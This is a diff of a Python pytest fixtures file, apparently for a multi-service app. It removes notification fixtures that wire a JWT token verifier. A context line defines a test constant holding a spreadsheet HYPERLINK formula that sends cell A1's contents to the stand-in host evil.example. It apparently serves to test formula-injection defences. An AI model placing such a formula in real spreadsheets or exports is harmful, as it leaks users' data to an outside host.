@@ -67,28 +67,6 @@ FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Xem chi tiết")'
 
 
 @pytest.fixture(scope="module")
-def notification(migrated: Any) -> Iterator[Any]:
-    from services.notification.runtime import Notification
-
-    rt = Notification(wake_sender=False)  # nothing is sent here
-    yield rt
-    rt.close()
-
-
-@pytest.fixture(scope="module")
-def notification_app(notification: Any, registration: Any) -> Any:
-    from services.notification.app import create_app
-    from shared.auth import TokenVerifier
-
-    verifier = TokenVerifier(
-        issuer=registration.settings.jwt_issuer,
-        audience=registration.settings.jwt_audience,
-        resolve_key=registration.keyring.public_key,
-    )
-    return create_app(notification, verifier=verifier)
-
-
-@pytest.fixture(scope="module")
 def apps(registration_app: Any, evaluation_app: Any, notification_app: Any) -> dict[str, Any]:
     return {
         "registration": registration_app,
